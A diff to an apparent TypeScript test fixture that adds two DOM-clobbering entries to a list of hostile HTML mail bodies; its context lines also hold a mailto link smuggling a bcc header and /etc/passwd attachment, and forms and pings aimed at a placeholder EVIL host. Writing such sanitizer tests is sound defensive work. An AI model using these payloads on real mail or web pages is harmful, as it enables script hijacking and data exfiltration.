@@ -74,6 +74,8 @@ export const HOSTILE_MAILS: readonly string[] = [
   // Names that hide members of the document from a script that runs beside the mail.
   '<form name=documentElement><input name=getBoundingClientRect></form><img name=body><a id=parent name=parent></a>',
   '<form id=ResizeObserver><input name=target><input name=closest><input name=localName></form><iframe name=postMessage></iframe>',
+  '<form action="EVIL/hidden" onclick="JS"><input name=attributes><input name=attributes><input name=removeAttribute><input name=getAttribute></form>',
+  '<img name=querySelectorAll><img name=createElement><form name=body></form><object id=querySelector></object><p>Read</p>',
   '<a href="mailto:x@y.test?subject=a%0Abcc:z@y.test&attach=/etc/passwd" onclick="JS"><form name=closest>m</form></a>',
   '<form action="EVIL/form" method=post><input name=a value=b><button id=go>Send</button><input type=submit formaction="EVIL/f2"></form>',
   '<a href="EVIL/clicked" ping="EVIL/ping" download="x.exe" referrerpolicy=unsafe-url attributionsrc="EVIL/attribution">a</a>',
